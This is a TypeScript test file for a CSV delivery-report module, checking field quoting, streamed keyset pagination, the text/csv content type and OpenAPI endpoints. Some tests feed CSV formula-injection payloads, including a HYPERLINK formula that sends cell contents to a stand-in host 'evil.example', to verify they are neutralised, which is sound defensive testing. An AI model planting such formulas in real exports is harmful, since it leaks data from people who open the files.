import { describe, expect, it, layer } from "@effect/vitest"
import { Chunk, Effect, Stream } from "effect"
import { csvField, csvRecord } from "../../src/reports/Csv.js"
import { DeliveryReports } from "../../src/reports/DeliveryReports.js"
import { call, contactsService, orgToken } from "../support/contactsApi.js"
import { unique } from "../support/providerRoutes.js"
import { baseUrl } from "../support/server.js"
import { createBroadcast, register } from "../support/reports.js"

describe("CSV fields", () => {
  it("quotes a field holding a quote, comma, CR or LF and doubles its quotes; leaves others bare", () => {
    expect(csvField("plain")).toBe("plain")
    expect(csvField(null)).toBe("")
    expect(csvField(3)).toBe("3")
    expect(csvField("a,b")).toBe("\"a,b\"")
    expect(csvField("say \"hi\"")).toBe("\"say \"\"hi\"\"\"")
    expect(csvField("line\nbreak")).toBe("\"line\nbreak\"")
    expect(csvField("cr\rhere")).toBe("\"cr\rhere\"")
    expect(csvRecord(["a", null, "b,c"])).toBe("a,,\"b,c\"\r\n")
  })

  it("a text cell a spreadsheet would run as a formula is prefixed with ' (OWASP); numbers stay numbers", () => {
    for (const start of ["=", "+", "-", "@", "\t"]) expect(csvField(`${start}1+1`)).toBe(`'${start}1+1`)
    expect(csvField("\rcmd")).toBe("\"'\rcmd\"")
    expect(csvField("=HYPERLINK(\"https://evil.example\",\"x\")")).toBe("\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\"")
    expect(csvField(-5)).toBe("-5")
    expect(csvField("a=b")).toBe("a=b")
  })
})

layer(contactsService, { excludeTestServices: true })("the streamed CSV report", (it) => {
  it.effect("pages through the rows by keyset a batch at a time, each row once", () =>
    Effect.gen(function* () {
      const org = unique("org-")
      const id = yield* createBroadcast(org)
      yield* register(org, id, Array.from({ length: 7 }, (_, i) => ({ recipient: `r${i}@example.com`, providerMessageId: `m-${i}` })))
      const reports = yield* Effect.provide(DeliveryReports, DeliveryReports.Default)
      const body = yield* reports.csv(org, id, { statuses: [], channel: undefined }, 2)
      const chunks = Chunk.toReadonlyArray(yield* Stream.runCollect(body)).map((bytes) => new TextDecoder().decode(bytes))
      // The header, then batches of 2, 2, 2 and 1 rows.
      expect(chunks.map((c) => c.split("\r\n").length - 1)).toEqual([1, 2, 2, 2, 1])
      const recipients = chunks.slice(1).join("").split("\r\n").filter((l) => l !== "").map((l) => l.split(",")[1])
      expect([...recipients].sort()).toEqual(Array.from({ length: 7 }, (_, i) => `r${i}@example.com`))
      const reply = yield* call(org, `/broadcast/${id}/report.csv`)
      expect(reply.status).toBe(200)
      expect(String(reply.body).split("\r\n")).toHaveLength(9)
    }))

  it.effect("a recipient written as a formula comes out of report.csv inert", () =>
    Effect.gen(function* () {
      const org = unique("org-")
      const id = yield* createBroadcast(org)
      const formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")"
      yield* register(org, id, [{ recipient: formula, providerMessageId: "m-formula" }])
      const reply = yield* call(org, `/broadcast/${id}/report.csv`)
      const cells = String(reply.body).split("\r\n")[1]!
      // Email addresses are stored lower-cased.
      expect(cells).toContain(`,"'${formula.toLowerCase().replaceAll("\"", "\"\"")}",`)
      expect(cells).not.toMatch(/(^|,)"?=hyperlink/)
    }))

  it.effect("the CSV is served as text/csv, and the OpenAPI document lists every report endpoint", () =>
    Effect.gen(function* () {
      const org = unique("org-")
      const id = yield* createBroadcast(org)
      const base = yield* baseUrl
      const token = yield* orgToken(org)
      const contentType = yield* Effect.promise(() =>
        fetch(`${base}/broadcast/${id}/report.csv`, { headers: { authorization: `Bearer ${token}`, orgid: org } }).then((r) => r.headers.get("content-type")))
      expect(contentType).toMatch(/^text\/csv/)
      const paths = yield* Effect.promise(() => fetch(`${base}/openapi.json`).then((r) => r.json() as Promise<{ paths: Record<string, unknown> }>))
      expect(Object.keys(paths.paths)).toEqual(expect.arrayContaining([
        "/broadcast/{id}/report", "/broadcast/{id}/report.csv", "/broadcast/activity", "/broadcast/activity/{messageId}"
      ]))
    }))
})
